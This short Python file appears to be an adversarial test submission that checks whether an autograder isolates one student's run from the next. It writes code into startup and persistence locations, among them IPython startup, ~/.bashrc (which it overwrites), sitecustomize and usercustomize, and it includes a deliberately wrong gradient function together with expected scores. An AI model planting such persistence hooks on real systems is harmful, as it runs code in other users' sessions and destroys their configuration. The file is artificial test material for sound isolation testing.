# Leaves files behind that would run in the next student's process.
# deserves: gradient_step=0 descend=3 linear=3

# %% gradient_step
import os
import site
import sys

CODE = "import builtins\nbuiltins.FORGED = 'PERSISTED'\nprint('PERSISTED')\n"
places = [
    "~/.ipython/profile_default/startup/00-forged.py",
    "~/.bashrc",
    "~/.jupyter/jupyter_config.py",
    "/tmp/usercustomize.py",
    "/tmp/sitecustomize.py",
    "/dev/shm/forged.py",
    *(os.path.join(folder, "usercustomize.py") for folder in [*sys.path, site.getusersitepackages()] if folder),
]
for place in places:
    try:
        path = os.path.expanduser(place)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(CODE)
    except OSError:
        continue


def gradient_step(w, g, lr):
    return w * 0
